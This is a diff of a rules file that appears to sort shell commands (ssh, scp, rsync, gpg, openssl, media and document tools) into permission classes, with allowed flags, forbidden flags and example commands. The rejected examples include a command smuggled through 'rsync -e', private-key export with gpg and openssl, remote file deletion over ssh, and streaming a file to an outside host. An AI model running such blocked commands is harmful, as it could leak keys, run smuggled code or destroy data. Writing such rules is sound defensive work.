 ssh-keygen | names needs:-l,-F | -l -f= -E= -v -F= | ssh-keygen -lf a.pub | ssh-keygen -t ed25519 ;; ssh-keygen -R host
 ssh-keyscan | fetches | *
-ssh | @ssh | -p= -i= -l= -o= -q -T -4 -6 -C -x -n -v -J= -F= -t -A! -N! -L! -R! -D! -f! -W! -w! -E! | ssh web df -h ;; ssh -p 22 web 'ls -l /var' | ssh web ;; ssh web 'rm x' ;; ssh web 'sudo systemctl stop x' ;; ssh -L 1:a:2 web ls ;; ssh web 'cat > x'
-scp | @scp | -r -P= -p -q -C -i= -v -o= -3 -O -F= -J= -l= | scp web:/a/b ./b-2025-01-02.log | scp a web:b ;; scp web:a b
+ssh {-V,-G} | names max:1 | -p= -F= | @ | ssh -G web 'rm x'
+ssh | @ssh | -p= -i= -l= -o= -q -T -4 -6 -C -x -n -v -J= -F! -t -A! -N! -L! -R! -D! -f! -W! -w! -E! | ssh web df -h ;; ssh -p 22 web 'ls -l /var' | ssh web ;; ssh web 'rm x' ;; ssh web 'sudo systemctl stop x' ;; ssh -L 1:a:2 web ls ;; ssh web 'cat > x'
+scp | @scp | -r -P= -p -q -C -i= -v -o= -3 -O -F! -J= -l= | scp web:/a/b ./b-2025-01-02.log | scp a web:b ;; scp web:a b
 rsync | @rsync | -a -v -n -r -z -h -P -u -t -l -p -g -o -D -H -A -X -c -i -x -q -W -S -e! --dry-run --delete --delete-after --delete-before --delete-excluded --exclude= --include= --exclude-from= --filter= --progress --stats --list-only --itemize-changes --checksum --ignore-existing --archive --verbose --recursive --compress --human-readable --partial --info= --size-only --update --remove-source-files --inplace --no-perms --no-owner --no-group --bwlimit= --max-size= --files-from= -f= --existing --rsh! --rsync-path! --backup! --log-file> --out-format= --timeout= --port= --mkpath --relative -R | rsync -avn a/ b/ ;; rsync -a --ignore-existing a/ b/ ;; rsync -a a/ b-2025-01-02 | rsync -a a/ b/ ;; rsync -a --delete a/ b/ ;; rsync -a a web:b ;; rsync -e 'sh -c x' a b
 openssl | @openssl | . | openssl x509 -in a.crt -noout -dates ;; openssl version ;; openssl s_client -connect a.example:443 | openssl rsa -in a.key -text ;; openssl genrsa -out a.key ;; openssl enc -d -in a ;; openssl x509 -in a -out README.md
 {gpg,gpg2} | names needs:--list-keys,-k,--list-public-keys,--fingerprint,--verify,--list-packets,-K,--list-secret-keys,--list-sigs,--version,--check-sigs,--show-keys | -k -K --list-keys --list-public-keys --list-secret-keys --fingerprint --verify --list-packets --keyid-format= --with-colons --list-sigs --check-sigs --show-keys --with-fingerprint --no-tty --batch -v -q | @ --list-keys ;; @ --verify a.sig a | @ -d a ;; @ --export-secret-keys ;; @ --delete-key x
@@ -296,16 +369,16 @@ zip | @zip | -r -q -9 -0 -1 -j -x= -T -v -y -X -D -sf -i= -@ -6 -e! -m! -d! -u! 
 {gzip,gunzip,bzip2,bunzip2,xz,unxz,zstd,unzstd,lz4,lzma,pigz,pbzip2,brotli,unlzma,pixz} | @compress | -k -d -c -l -t -v -q -f -n -1 -2 -3 -4 -5 -6 -7 -8 -9 -T= -p= --keep --decompress --stdout --to-stdout --list --test --verbose --quiet --force --best --fast --rm! -r! -S= --threads= -o= -19 | @ -c a ;; @ -t a.gz ;; @ -k a | @ -kf a
 {cpio} | names needs:-t | -t -i -v --list --quiet | cpio -it | cpio -i
 # media and documents
-{ffprobe,mediainfo,identify,pdfinfo,pdffonts,soxi,mkvinfo,mp4info,ogginfo,opusinfo,mp3info,pngcheck,jpeginfo,webpinfo,tiffinfo,fc-list,fc-match,fc-query,fc-scan,pdfgrep,pdfid,img2txt,chafa,catimg,jp2a,timg,viu,zbarimg,mp3val,heif-info,dcmdump,sndfile-info,avprobe,otfinfo,catdvi,exrheader} | reads | --log-file! -o! --report! --LogFile! -write! -v= * | @ a
+{ffprobe,mediainfo,identify,pdfinfo,pdffonts,soxi,mkvinfo,mp4info,ogginfo,opusinfo,mp3info,pngcheck,jpeginfo,webpinfo,tiffinfo,fc-list,fc-match,fc-query,fc-scan,pdfgrep,pdfid,img2txt,chafa,catimg,jp2a,timg,viu,zbarimg,mp3val,heif-info,dcmdump,sndfile-info,avprobe,otfinfo,catdvi,exrheader} | reads | --log-file! --logfile! --output! -o! --report! --LogFile! -write! -v= * | @ a
 ffprobe | reads | single -report! -o! * | ffprobe -v error a.mp4
 identify | reads | -write! * | identify a.png
 {ffmpeg,avconv} | @ffmpeg | . | @ -n -i a.wav b.mp3 ;; @ -i a.mp4 ;; @ -i a.mp4 -f null - ;; @ -i a.wav out-2025-01-02.mp3 | @ -y -i a.wav b.mp3 ;; @ -i a.wav b.mp3 ;; @ -i a.mp4 -f flv rtmp://x.example/y
 ffplay | code
-sox | @inputOutput | * | sox a.wav b-2025-01-02.wav | sox a.wav b.wav
-sox --info | reads | *
+sox | @inputOutput | * | sox a.wav b-2025-01-02.wav ;; sox a.wav -n stat | sox a.wav b.wav
+sox {--info,--i} | reads | *
 mogrify | overwrites
 {convert,magick,gm,composite,montage,compare} | @magick | . | @ a.png info: | @ -write x.png a b ;; @ a.png b.png
-{cwebp,dwebp,avifenc,heif-convert,gif2webp,cjxl,djxl,img2pdf,pdfunite,pdfseparate,pdfcrop,pdfjam,gs,ps2pdf,inkscape,wkhtmltopdf,wkhtmltoimage,weasyprint,chromium,google-chrome,firefox,libreoffice,soffice,unoconv,abiword,ebook-convert,dot,neato,mmdc,plantuml,asciinema,vhs,yt-dlp,youtube-dl,gallery-dl,aria2c,axel,jpegoptim,optipng,pngquant,oxipng,jpegtran,gifsicle,mkvmerge,mkvextract,mkvpropedit,mp4box,MP4Box,HandBrakeCLI,lame,flac,oggenc,opusenc,normalize,mp3gain,id3v2,eyeD3,metaflac,pdftk,mutool,ocrmypdf,k2pdfopt,scanimage,lp,lpr,cancel,xdg-open,open,start,screencapture,scrot,xclip,xsel,pbcopy,wl-copy,notify-send,say,espeak,blender,gimp,potrace,autotrace,fc-cache,whisper,piper,demucs,unpaper,sane,djvups,pdfimages,pdfdetach,pdftocairo,pdftoppm,pdftops,pdfattach,soffice.bin} | media
+{cwebp,dwebp,avifenc,heif-convert,gif2webp,cjxl,djxl,img2pdf,pdfunite,pdfseparate,pdfcrop,pdfjam,gs,ps2pdf,inkscape,wkhtmltopdf,wkhtmltoimage,weasyprint,chromium,google-chrome,firefox,unoconv,abiword,ebook-convert,dot,neato,mmdc,plantuml,asciinema,vhs,yt-dlp,youtube-dl,gallery-dl,aria2c,axel,jpegoptim,optipng,pngquant,oxipng,jpegtran,gifsicle,mkvmerge,mkvextract,mkvpropedit,mp4box,MP4Box,HandBrakeCLI,lame,flac,oggenc,opusenc,normalize,mp3gain,id3v2,eyeD3,metaflac,ocrmypdf,k2pdfopt,scanimage,lp,lpr,cancel,xdg-open,open,start,screencapture,scrot,xclip,xsel,pbcopy,wl-copy,notify-send,say,espeak,blender,gimp,potrace,autotrace,fc-cache,whisper,piper,demucs,unpaper,sane,djvups,pdfimages,pdfdetach,pdftocairo,pdftoppm,pdftops,pdfattach,soffice.bin} | media
 {dot,neato} {-V} | names
 {yt-dlp,youtube-dl} {-F,-j,-J,--list-formats,--dump-json,--list-subs,--get-title,--get-url,--simulate,-s,--get-duration} | fetches | --exec! --print-to-file! -o! --write-info-json! --cookies! --cookies-from-browser! * | @ https://a.example/v
 lpstat | names | *
@@ -318,6 +391,17 @@ tesseract | @inputOutput | single -l= --psm= --oem= -c= --dpi= --list-langs --te
 qpdf | @qpdf | . | qpdf --check a.pdf ;; qpdf a.pdf --pages . 1-2 -- b-2025-01-02.pdf | qpdf --replace-input a.pdf ;; qpdf a.pdf b.pdf
 exiftool | @exiftool | . | exiftool a.jpg ;; exiftool -csv -CreateDate a.jpg | exiftool -all= a.jpg ;; exiftool -Artist=x a.jpg ;; exiftool -overwrite_original a.jpg
 exiv2 | reads needs:-p,pr,print,-g | -p= -g= -P= -K= -u -q | exiv2 -pa a.jpg | exiv2 rm a.jpg
+mutool {info,show,pages,trace} | reads | -o! *
+mutool {draw,clean,convert,extract,merge,create,poster,sign,run} | overwrites
+pdftk | overwrites
+docx2txt | @inputOutput | . | docx2txt a.docx - | docx2txt a.docx b.txt ;; docx2txt a.docx
+{xlsx2csv} | @inputOutput | -s= --sheet= -n= --sheetname= -d= --delimiter= -a --all! -i --ignoreempty -f= --dateformat= -e --escape -p= -c= | xlsx2csv a.xlsx ;; xlsx2csv -s 2 a.xlsx - | xlsx2csv a.xlsx b.csv ;; xlsx2csv -a a.xlsx b
+ssconvert {--list-exporters,--list-importers,--version} | names
+ssconvert | overwrites
+{soffice,libreoffice} | overwrites needs:--cat,--version | --cat --headless --version --convert-to! | @ --headless --cat a.odt | @ --headless --convert-to pdf a.docx ;; @ --cat --convert-to pdf a.odt
+{detex,delatex,untex,opendetex,ooo_cat,rtf2txt,xls2txt,ppt2txt,epub2txt,html2md,htmltotext} | reads | -o> --output> *
+tesseract --list-langs | names
+asciidoctor | overwrites needs:-v,--version,-o,--out-file | -v --version -b= -a= -o> --out-file> -s -d= -q -e | asciidoctor -o - a.adoc ;; asciidoctor -v | asciidoctor a.adoc ;; asciidoctor -o a.html a.adoc
 {pandoc} | @outputOption | -o> --output> -t= -f= --to= --from= -s --standalone --wrap= --columns= --toc --number-sections -N --template= --metadata= -M= --shift-heading-level-by= --list-input-formats --list-output-formats --citeproc --bibliography= --quiet --extract-media! --filter! -F! -L! --lua-filter! --log> --pdf-engine! -d! --defaults! --markdown-headings= --reference-links --strip-comments --track-changes= -r= -w= --read= --write= | pandoc -t plain a.docx ;; pandoc a.md -o a-2025-01-02.html | pandoc a.md -o a.html ;; pandoc -L x.lua a.md ;; pandoc --extract-media=x a.docx
 w3m | fetches needs:-dump | single -dump -cols= -T= | w3m -dump a.html | w3m a.html
 {lynx,links,elinks} | fetches needs:-dump,-listonly | single -dump -listonly -nolist -width= -stdin | @ -dump https://a.example | @ https://a.example
